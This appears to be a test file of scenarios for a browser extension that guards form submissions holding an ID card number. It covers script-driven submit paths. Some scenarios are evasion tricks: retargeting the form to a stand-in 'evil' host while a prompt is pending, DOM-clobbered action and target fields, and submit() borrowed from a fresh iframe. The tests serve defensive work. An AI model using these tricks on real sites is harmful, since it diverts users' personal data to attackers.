// Scenarios 20 to 30: forms that a script sends.
import type { Attempt } from '#tests/coverage/attempt.ts';
import { form, ID, idField, type Scenario } from '#tests/coverage/scenario.ts';

const press = '<button type="button" id="press">Send</button>';
const typed = [['[name=idcard]', ID]] as const;
const plain = { type: typed, send: '#press', value: ID, expected: 'held', row: { channel: 'form' } } as const;

/** A page whose button runs `code`, with the form at hand as `form`. */
const onPress = (inside: string, code: string, attributes?: string) => `${form(inside, attributes)}${press}
<script>document.querySelector('#press').onclick = () => { const form = document.forms[0]; ${code} };</script>`;

/** submit() of a realm that was made a moment ago. */
const FRESH = `const frame = document.createElement('iframe'); frame.hidden = true; document.body.append(frame);
frame.contentWindow.HTMLFormElement.prototype.submit.call(form);`;

/** While the question stands, the page gives its form another address, and a frame as the place where it opens. */
async function diverted(attempt: Attempt): Promise<string> {
  const { tab, mode, hosts } = attempt;
  await tab.type('[name=idcard]', ID);
  await tab.click('#press');
  if (mode === 'off') return (await attempt.arrives()) ? 'sent' : 'not sent';
  const first = await attempt.question();
  await tab.evaluate(`Object.assign(document.forms[0], { target: 'sink', action: 'https://${hosts.evil}/take' })`);
  if (mode === 'refused') await attempt.answer();
  else {
    await first.press('Send this once');
    await (await attempt.questionAbout('evil')).press("Don't send");
  }
  await attempt.sleep(1500);
  if (attempt.arrived().length > 0) return 'sent to another address';
  return mode === 'refused' ? 'held, nothing sent' : 'asked anew, nothing sent';
}

const DIVERTED = {
  value: ID,
  run: diverted,
  expected: { off: 'sent', refused: 'held, nothing sent', allowed: 'asked anew, nothing sent' },
} as const;
const SINK = '<iframe name="sink"></iframe>';

/** Each field hides a property of the form that says where and how it goes. */
const CLOBBERED = (evil: string) => `${idField}<input type="hidden" name="action" value="https://${evil}/">
<input type="hidden" id="method" value="dialog"><input type="hidden" name="target" value="_top">`;

const second = (code: string) => `<button type="button" id="start">Start</button><script>
document.querySelector('#start').onclick = () => { ${code} };</script>`;

export const PROGRAMMATIC: readonly Scenario[] = [
  {
    ...plain,
    id: '20',
    what: 'form.submit() of a POST form.',
    pages: () => ({ 'site /': onPress(idField, 'form.submit();') }),
  },
  {
    ...DIVERTED,
    id: '20b',
    what: 'The same; while it is held the page gives its form another address, in a frame: that is asked about anew.',
    pages: () => ({ 'site /': `${SINK}${onPress(idField, 'form.submit();')}` }),
  },
  {
    ...plain,
    id: '21',
    what: 'form.submit() of a GET form.',
    pages: () => ({ 'site /': onPress(idField, 'form.submit();', 'action="/send"') }),
    row: { channel: 'navigation' },
  },
  {
    ...plain,
    id: '22',
    what: 'form.submit() into a new tab.',
    pages: () => ({ 'site /': onPress(idField, 'form.submit();', 'method="post" action="/send" target="_blank"') }),
  },
  {
    ...plain,
    id: '23a',
    what: 'form.submit() into an empty frame of the page.',
    pages: () => ({
      'site /': `<iframe name="inside"></iframe>${onPress(idField, 'form.submit();', 'method="post" action="/send" target="inside"')}`,
    }),
    ends: "frames.inside.document.body.innerText + ' ' + frames.inside.location.pathname",
  },
  {
    ...plain,
    id: '23b',
    what: 'form.submit() into a frame of another site, as for a bank’s check of a card.',
    pages: ({ pay }) => ({
      'site /': `<iframe name="inside" src="https://${pay}/wait"></iframe>${onPress(idField, 'form.submit();', `method="post" action="https://${pay}/check" target="inside"`)}`,
      'pay /wait': 'One moment…',
    }),
    to: 'pay',
  },
  {
    ...plain,
    id: '24',
    what: 'submit() taken from a frame made a moment ago.',
    pages: () => ({ 'site /': onPress(idField, FRESH) }),
  },
  {
    ...DIVERTED,
    id: '24b',
    what: 'The same; while it is held the page gives its form another address, in a frame: that is asked about anew.',
    pages: () => ({ 'site /': `${SINK}${onPress(idField, FRESH)}` }),
  },
  {
    ...plain,
    id: '25',
    what: 'submit() taken from a frame made a moment ago, into a new tab.',
    pages: () => ({ 'site /': onPress(idField, FRESH, 'method="post" action="/send" target="_blank"') }),
    expected: { chromium: 'recorded', firefox: 'held' },
    row: {},
    note: 'Chromium tells no extension of it before it has left.',
  },
  {
    ...plain,
    id: '26a',
    what: 'Fields called submit, action, method and target hide what the form is; sent by its button.',
    pages: ({ pay, evil }) => ({
      'site /': form(
        `${CLOBBERED(evil)}<button name="submit" value="1">Send</button>`,
        `method="post" action="https://${pay}/send"`,
      ),
    }),
    send: '[name=submit]',
    to: 'pay',
  },
  {
    ...plain,
    id: '26b',
    what: 'Fields called submit, action, method and target hide what the form is; sent by a script.',
    pages: ({ pay, evil }) => ({
      'site /': onPress(
        `${CLOBBERED(evil)}<input type="hidden" name="submit" value="1">`,
        'HTMLFormElement.prototype.submit.call(form);',
        `method="post" action="https://${pay}/send"`,
      ),
    }),
    to: 'pay',
  },
  {
    ...plain,
    id: '27',
    what: 'A form that is made, put in the page, sent and taken away in one go.',
    pages: ({ pay }) => ({
      'site /': `${idField}${press}<script>document.querySelector('#press').onclick = () => {
  const made = document.createElement('form');
  made.method = 'post'; made.action = 'https://${pay}/send';
  const field = document.createElement('input');
  field.type = 'hidden'; field.name = 'number'; field.value = document.querySelector('[name=idcard]').value;
  made.append(field);
  document.body.append(made); made.submit(); made.remove();
};</script>`,
    }),
    to: 'pay',
  },
  {
    ...plain,
    id: '28',
    what: 'submit() twice in one go, the second time without the token: one question, and what the browser would have sent.',
    pages: () => ({
      'site /': onPress(
        `${idField}<input type="hidden" name="token" value="t1">`,
        'form.submit(); form.token.remove(); form.submit();',
      ),
    }),
  },
  {
    ...plain,
    id: '29a',
    what: 'requestSubmit() from inside the submit handler, which browsers ignore.',
    pages: () => ({
      'site /': `${form(`${idField}<input type="hidden" name="runs" value="0"><button id="press">Send</button>`)}
<script>document.forms[0].onsubmit = ({ target }) => { target.runs.value++; target.requestSubmit(); };</script>`,
    }),
  },
  {
    ...plain,
    id: '29b',
    what: 'The submit handler cancels, checks something, and calls requestSubmit().',
    pages: () => ({
      'site /': `${form(`${idField}<input type="hidden" name="runs" value="0"><button id="press">Send</button>`)}
<script>document.forms[0].onsubmit = (event) => {
  const form = event.target;
  if (form.runs.value++ > 0) return;
  event.preventDefault();
  setTimeout(() => form.requestSubmit(), 50);
};</script>`,
    }),
  },
  {
    ...plain,
    id: '30a',
    what: 'A form written by document.open() and document.write() once the page had loaded, by its button.',
    pages: () => ({
      'site /': second(
        `document.open(); document.write(${JSON.stringify(form(`${idField}<button id="press">Send</button>`))}); document.close();`,
      ),
    }),
    type: [],
    send: async (tab) => {
      await tab.click('#start');
      await tab.type('[name=idcard]', ID);
      await tab.click('#press');
    },
  },
  {
    ...plain,
    id: '30b',
    what: 'A form that is written over the page and clicked in one go.',
    pages: () => ({
      'site /': `${idField}${second(`const { value } = document.querySelector('[name=idcard]');
document.open();
document.write('<form method="post" action="/send"><input name="number" value="' + value + '"><button>Send</button></form>');
document.close();
document.querySelector('button').click();`)}`,
    }),
    send: '#start',
  },
];
